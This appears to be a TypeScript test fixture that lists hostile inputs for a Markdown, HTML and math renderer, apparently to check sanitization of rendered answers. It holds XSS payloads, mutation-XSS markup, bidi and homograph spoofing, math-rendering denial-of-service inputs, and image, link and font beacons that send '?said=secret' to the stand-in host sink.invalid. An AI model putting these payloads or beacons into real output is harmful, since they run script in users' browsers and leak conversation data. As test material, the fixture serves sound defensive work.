const run = 'alert(1)'
const sink = 'http://sink.invalid/x'

const html = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${sink}.png">`,
  `<svg onload=${run}><script>${run}</script></svg>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<math><mtext></mtext><mglyph><style><img src onerror=${run}></style></mglyph></math>`,
  `<style>@import url(${sink}.css)</style>`,
  `<link rel="prefetch" href="${sink}">`,
  `<meta http-equiv="refresh" content="0;url=${sink}">`,
  `<form action="${sink}"><button>go</button></form>`,
  `<details open ontoggle=${run}>x</details>`,
  `<a href="javascript:${run}">x</a>`,
  `<base href="${sink}/">`,
  `<!--><script>${run}</script-->`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `</textarea><script>${run}</script>`,
  `<object data="${sink}"></object><embed src="${sink}">`,
  `<video src="${sink}" autoplay></video><audio src="${sink}"></audio>`,
]

const links = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java&#x0A;script:${run})`,
  `[x](&#106;avascript:${run})`,
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  `[x](vbscript:${run})`,
  `[x](\u0001javascript:${run})`,
  `<javascript:${run}>`,
  `[x][r]\n\n[r]: javascript:${run}`,
  `[x](blob:http://sink.invalid/1)`,
  '[x](file:///etc/passwd)',
  '[x](//sink.invalid/x)',
  '[https://bank.example](https://sink.invalid/)',
  `[![x](${sink}.png)](javascript:${run})`,
  `www.sink.invalid and ${sink} and user@sink.invalid`,
]

const pictures = [
  `![x](${sink}.png)`,
  `![x](data:image/svg+xml,<svg onload=${run}>)`,
  `![x](javascript:${run})`,
  `![x][p]\n\n[p]: ${sink}.png`,
  `![a](${sink}.png "t\\" onerror=${run}")`,
  `| ![x](${sink}.png) | b |\n| --- | --- |\n| <img src=${sink}> | x |`,
]

const formulas = [
  `$\\href{javascript:${run}}{x}$`,
  `$$\\url{${sink}}$$`,
  `\\(\\includegraphics{${sink}.png}\\)`,
  `$\\htmlData{x=${run}}{y} \\htmlId{page}{z} \\htmlStyle{position:fixed}{w}$`,
  `$\\text{<img src=x onerror=${run}>}$`,
  `$$\n\\def\\a{\\a\\a}\\a\n$$`,
  '$\\rule{99999em}{99999em}$',
  `$${'{'.repeat(2000)}x${'}'.repeat(2000)}$`,
  `\\[${'\\sqrt{'.repeat(300)}x${'}'.repeat(300)}\\]`,
  `$$${'\\left('.repeat(300)}x${'\\right)'.repeat(300)}$$`,
  `$$\\def\\a#1{${'\\sqrt{'.repeat(30)}#1${'}'.repeat(30)}}${'\\a{'.repeat(30)}x${'}'.repeat(30)}$$`,
  '$\\unknown{x}$ and $\\frac{1}$ and $x^{$',
  '$\\char"202E abc$ \\(\\text{\u202Etxt.exe}\\)',
]

const shapes = [
  '`'.repeat(500),
  `${'> '.repeat(300)}deep`,
  `${'- '.repeat(200)}deep`,
  '['.repeat(2000),
  `${'*'.repeat(999)}a`,
  `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n|${'b|'.repeat(300)}`,
  '\u202Etxt.exe\u202C \u2066hidden\u2069 \u0000 \uFFFE',
  '[^__proto__]\n\n[^__proto__]: note\n\n[constructor]\n\n[constructor]: https://a.invalid/',
  '```"><script>alert(1)</script>\ncode\n```',
  `~~~javascript:${run}\n</code></pre><script>${run}</script>\n~~~`,
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '$$\\href{javascript:alert(1)}{x}$$ \\(\\url{javascript:alert(1)}\\)',
]

/** Markup that a parser turns into other markup when it is read for the second time, and other namespaces. */
const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /><a id=x><text x=20 y=20>x</text></a></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<table><td background="${sink}"><input type=image src=${sink} formaction=javascript:${run}></table>`,
  `<xss style="background:url(${sink})" onanimationstart=${run}>x</xss>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}></svg>#x"></use></svg>`,
  `<img srcset="${sink}.png 1x, ${sink}2.png 2x"><picture><source srcset=${sink}></picture>`,
]

/** Text that reads otherwise than it runs. */
const directions = [
  '\u202Emoc.elpmaxe//:sptth\u202C',
  `[\u202Egnp.exe](${sink})`,
  `https://sink.invalid\u2215example.com/ and https://\u0430pple.invalid/`,
  '\u2066<script>\u2069alert(1)\u2066</script>\u2069',
  `\u0627\u0644\u0639\u0631\u0628\u064A\u0629 <b onclick=${run}>\u05D0\u05D1</b> ![\u202Ex](${sink}.png)`,
]

/** What reaches out of the page: pictures, styles, fonts, hints to fetch, and links that carry what was said. */
export const outward: readonly string[] = [
  ...pictures,
  ...html.filter((text) => text.includes(sink)),
  ...mutations.filter((text) => text.includes(sink)),
  `<style>@font-face{font-family:x;src:url(${sink}.woff2)}body{font-family:x;background:url(${sink}.png)}</style>`,
  `<link rel=preload as=image href=${sink}><link rel=dns-prefetch href=//sink.invalid><link rel=preconnect href=${sink}>`,
  `[read on](${sink}?said=secret) and ${sink}?said=secret and <${sink}?said=secret>`,
  `![ ](${sink}.png?said=secret)`,
  `[![x](${sink}.png)](${sink})`,
  `![x][a]\n\n[a]: ${sink}.png?said=secret`,
  `$\\includegraphics{${sink}.png}$ $\\href{${sink}}{x}$`,
  `<video poster=${sink}><track src=${sink}></video><a ping=${sink} href=/>x</a>`,
  `<body background=${sink}><input type=image src=${sink}>`,
  '```html\n<img src="http://sink.invalid/x">\n```',
  '```svg\n<svg xmlns="http://www.w3.org/2000/svg"><image href="http://sink.invalid/x"/></svg>\n```',
]

/** By class: what tries to become code, to call out, or to break the page. */
export const families = { html, mutations, links, pictures, formulas, directions, shapes } as const

/** Answers that try to become code, to call out, or to break the page. */
export const hostile: readonly string[] = [
  ...Object.values(families).flat(),
  ...html.map((payload) => `- item\n\n  > ${payload}\n\n| a |\n| --- |\n| ${payload} |`),
  ...links.map((payload) => `# ${payload.split('\n')[0]}\n\n**${payload}**`),
]
